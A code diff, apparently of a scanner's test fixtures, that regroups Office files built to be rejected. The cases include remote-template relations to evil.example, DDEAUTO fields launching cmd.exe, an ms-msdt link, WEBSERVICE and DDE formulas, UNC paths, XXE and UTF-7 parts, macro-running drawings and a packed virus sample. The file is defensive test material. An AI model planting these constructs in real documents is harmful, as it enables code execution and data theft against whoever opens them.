@@ -1,92 +1,84 @@
-import { virus, type BadFile } from "./bad-file.ts";
-import { docx, xlsx } from "./good-files.ts";
+import { virus, refusedAs, type BadFile } from "./bad-file.ts";
+import { docxWith, xlsx, xlsxWith } from "./good-files.ts";
 
 const types = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
-const part = (words: string, name = "word/footer1.xml") => docx({ more: [{ name, bytes: words }] });
-const relations = (words: string | Buffer) =>
-  docx({ more: [{ name: "word/_rels/footer1.xml.rels", bytes: words }] });
+const part = (words: string, name = "word/footer1.xml") => docxWith(name, words);
+const relations = (words: string | Buffer) => docxWith("word/_rels/footer1.xml.rels", words);
+const linkedTo = (type: string, target: string) =>
+  relations(
+    `<Relationships><Relationship Id="r" Type="${types}/${type}" Target="${target}" TargetMode="External"/></Relationships>`,
+  );
 const utf16 = (words: string) => Buffer.concat([Buffer.from("fffe", "hex"), Buffer.from(words, "utf16le")]);
 const template = `<Relationships><Relationship Id="r9" Type="${types}/attachedTemplate" Target="https://evil.example/x.dotm" TargetMode="External"/></Relationships>`;
 const said = (name: string, words: string) => `<w:${name}>${words}</w:${name}>`;
 const runs = (...texts: string[]) =>
   `<w:document xmlns:w="w"><w:fldChar w:fldCharType="begin"/>${texts.map((words) => `<w:instrText>${words}</w:instrText>`).join("")}<w:fldChar w:fldCharType="end"/></w:document>`;
 const cell = (formula: string) =>
-  xlsx({ more: [{ name: "xl/worksheets/sheet1.xml", bytes: `<worksheet><f>${formula}</f></worksheet>` }] });
+  xlsxWith("xl/worksheets/sheet1.xml", `<worksheet><f>${formula}</f></worksheet>`);
 
 /** Office documents that hide what they fetch or run from whoever reads words and not structure. */
 export const hiddenOffices: readonly BadFile[] = [
-  ["a relation in single quotes", "hidden-a.docx", relations(template.replaceAll('"', "'")), "file-active"],
-  ["a relation in UTF-16", "hidden-b.docx", relations(utf16(template)), "file-active"],
-  [
-    "a relation in character references",
-    "hidden-c.docx",
-    relations(template.replace("attachedTemplate", "&#97;ttached&#x54;emplate")),
-    "file-active",
-  ],
-  [
-    "a picture from elsewhere",
-    "hidden-d.docx",
-    relations(
-      `<Relationships><Relationship Id="r" Type="${types}/image" Target="https://evil.example/x.png" TargetMode="External"/></Relationships>`,
-    ),
-    "file-active",
-  ],
-  [
-    "a picture from elsewhere that isn't said to be",
-    "hidden-e.docx",
-    relations(
-      `<Relationships><Relationship Id="r" Type="${types}/image" Target="\\\\evil\\x.png"/></Relationships>`,
-    ),
-    "file-active",
-  ],
-  [
-    "a link that starts a program",
-    "hidden-f.docx",
-    relations(
-      `<Relationships><Relationship Id="r" Type="${types}/hyperlink" Target="ms-msdt:/id x" TargetMode="External"/></Relationships>`,
-    ),
-    "file-active",
-  ],
-  [
-    "a drawing of old that names its picture by an address",
-    "hidden-g.docx",
-    part('<v:shape xmlns:v="v"><v:imagedata src="https://evil.example/x.png"/></v:shape>'),
-    "file-active",
-  ],
-  [
-    "a simple field that starts a program",
-    "hidden-h.docx",
-    part('<w:p xmlns:w="w"><w:fldSimple w:instr=" DDEAUTO c:\\\\cmd.exe"/></w:p>'),
-    "file-active",
-  ],
-  ["a field in several runs", "hidden-i.docx", part(runs(" DD", "EAU", "TO c:\\\\cmd.exe")), "file-active"],
-  ["a field that includes a file", "hidden-j.docx", part(runs(' includetext "\\\\evil\\x"')), "file-active"],
-  [
-    "a document of another kind in a document",
-    "hidden-k.docx",
-    part('<w:body xmlns:w="w" xmlns:r="r"><w:altChunk r:id="r1"/></w:body>'),
-    "file-active",
-  ],
-  [
-    "a cell that asks a service",
-    "hidden-l.xlsx",
-    cell("WEBSERVICE(&quot;https://evil.example&quot;)"),
-    "file-active",
-  ],
-  [
-    "a cell that asks a service by its stored name",
-    "hidden-m.xlsx",
-    cell("1+_xlfn.WEBSERVICE (A1)"),
-    "file-active",
-  ],
-  [
-    "a cell that hands a service on by its name",
-    "hidden-q.xlsx",
-    cell("_xlfn.LET(_xlpm.f,_xleta.WEBSERVICE,_xlpm.f(&quot;https://evil.example&quot;))"),
-    "file-active",
-  ],
-  ["a cell that speaks to another program", "hidden-n.xlsx", cell("cmd|'/C calc'!A0"), "file-active"],
-  ["a cell that fetches a picture", "hidden-o.xlsx", cell("_xlfn.IMAGE(A1)"), "file-active"],
+  ...refusedAs("file-active", "docx", [
+    ["a relation in single quotes", relations(template.replaceAll('"', "'"))],
+    ["a relation in UTF-16", relations(utf16(template))],
+    [
+      "a relation in character references",
+      relations(template.replace("attachedTemplate", "&#97;ttached&#x54;emplate")),
+    ],
+    ["a picture from elsewhere", linkedTo("image", "https://evil.example/x.png")],
+    [
+      "a picture from elsewhere that isn't said to be",
+      relations(
+        `<Relationships><Relationship Id="r" Type="${types}/image" Target="\\\\evil\\x.png"/></Relationships>`,
+      ),
+    ],
+    ["a link that starts a program", linkedTo("hyperlink", "ms-msdt:/id x")],
+    [
+      "a drawing of old that names its picture by an address",
+      part('<v:shape xmlns:v="v"><v:imagedata src="https://evil.example/x.png"/></v:shape>'),
+    ],
+    [
+      "a simple field that starts a program",
+      part('<w:p xmlns:w="w"><w:fldSimple w:instr=" DDEAUTO c:\\\\cmd.exe"/></w:p>'),
+    ],
+    ["a field in several runs", part(runs(" DD", "EAU", "TO c:\\\\cmd.exe"))],
+    ["a field that includes a file", part(runs(' includetext "\\\\evil\\x"'))],
+    [
+      "a document of another kind in a document",
+      part('<w:body xmlns:w="w" xmlns:r="r"><w:altChunk r:id="r1"/></w:body>'),
+    ],
+  ]),
+  ...refusedAs("file-active", "xlsx", [
+    ["a cell that asks a service", cell("WEBSERVICE(&quot;https://evil.example&quot;)")],
+    ["a cell that asks a service by its stored name", cell("1+_xlfn.WEBSERVICE (A1)")],
+    [
+      "a cell that hands a service on by its name",
+      cell("_xlfn.LET(_xlpm.f,_xleta.WEBSERVICE,_xlpm.f(&quot;https://evil.example&quot;))"),
+    ],
+    ["a cell that speaks to another program", cell("cmd|'/C calc'!A0")],
+    ["a cell that fetches a picture", cell("_xlfn.IMAGE(A1)")],
+    [
+      "a formula that is broken in a branch that nobody reads",
+      cell('WEB<mc:Choice xmlns:mc="mc">x</mc:Choice>SERVICE("https://evil.example")'),
+    ],
+    [
+      "a sheet with data connections",
+      xlsx({ relations: `<Relationship Id="r" Type="${types}/connections" Target="connections.xml"/>` }),
+    ],
+  ]),
+  ...refusedAs("file-malware", "docx", [
+    ["a virus packed in a document", part(`<x>${virus.replace("&", "&amp;")}</x>`)],
+    ["a virus packed as a picture", docxWith("word/media/image1.png", virus)],
+  ]),
+  ...refusedAs("file-damaged", "docx", [
+    ["a part that isn't well formed", part("<w:p><w:r></w:p>")],
+    ["a part with an entity of nobody's", part("<x>&xxe;</x>")],
+    ["a part in an encoding that is not read", part('<?xml version="1.0" encoding="UTF-7"?><x/>')],
+  ]),
+  ...refusedAs("file-nested", "docx", [
+    ["a part of a kind that no document has", part("words", "word/data.bin")],
+    ["a part that calls itself a picture and is XML", part(runs(" DDEAUTO x"), "word/media/image1.png")],
+  ]),
   ...[
     ["another file of the web", "'https://evil.example/[x.xlsx]Sheet1'!A1"],
     ["another file of a computer", "1+'\\\\evil\\[x.xlsx]Sheet1'!A1"],
@@ -102,9 +94,7 @@ export const hiddenOffices: readonly BadFile[] = [
     (target, at): BadFile => [
       `a link to ${target}`,
       `hidden-y${at}.docx`,
-      relations(
-        `<Relationships><Relationship Id="r" Type="${types}/hyperlink" Target="${target}" TargetMode="External"/></Relationships>`,
-      ),
+      linkedTo("hyperlink", target),
       "file-active",
     ],
   ),
@@ -137,12 +127,6 @@ export const hiddenOffices: readonly BadFile[] = [
     ),
     "file-active",
   ]),
-  [
-    "a formula that is broken in a branch that nobody reads",
-    "hidden-o.xlsx",
-    cell('WEB<mc:Choice xmlns:mc="mc">x</mc:Choice>SERVICE("https://evil.example")'),
-    "file-active",
-  ],
   ...[
     `<xml xmlns:x="x"><x:FmlaMacro>'\\\\evil\[x.xlsm]'!run</x:FmlaMacro></xml>`,
     `<xdr:wsDr xmlns:xdr="xdr"><xdr:sp macro="[9]!run"/></xdr:wsDr>`,
@@ -150,40 +134,7 @@ export const hiddenOffices: readonly BadFile[] = [
   ].map((drawing, at): BadFile => [
     `a drawing that runs another file's macro, or another program (${at})`,
     `hidden-n${at}.xlsx`,
-    xlsx({ more: [{ name: "xl/drawings/drawing1.xml", bytes: drawing }] }),
+    xlsxWith("xl/drawings/drawing1.xml", drawing),
     "file-active",
   ]),
-  [
-    "a sheet with data connections",
-    "hidden-p.xlsx",
-    xlsx({ relations: `<Relationship Id="r" Type="${types}/connections" Target="connections.xml"/>` }),
-    "file-active",
-  ],
-  [
-    "a virus packed in a document",
-    "hidden-q.docx",
-    part(`<x>${virus.replace("&", "&amp;")}</x>`),
-    "file-malware",
-  ],
-  [
-    "a virus packed as a picture",
-    "hidden-r.docx",
-    docx({ more: [{ name: "word/media/image1.png", bytes: virus }] }),
-    "file-malware",
-  ],
-  ["a part that isn't well formed", "hidden-s.docx", part("<w:p><w:r></w:p>"), "file-damaged"],
-  ["a part with an entity of nobody's", "hidden-t.docx", part("<x>&xxe;</x>"), "file-damaged"],
-  [
-    "a part in an encoding that is not read",
-    "hidden-u.docx",
-    part('<?xml version="1.0" encoding="UTF-7"?><x/>'),
-    "file-damaged",
-  ],
-  ["a part of a kind that no document has", "hidden-v.docx", part("words", "word/data.bin"), "file-nested"],
-  [
-    "a part that calls itself a picture and is XML",
-    "hidden-w.docx",
-    part(runs(" DDEAUTO x"), "word/media/image1.png"),
-    "file-nested",
-  ],
 ];
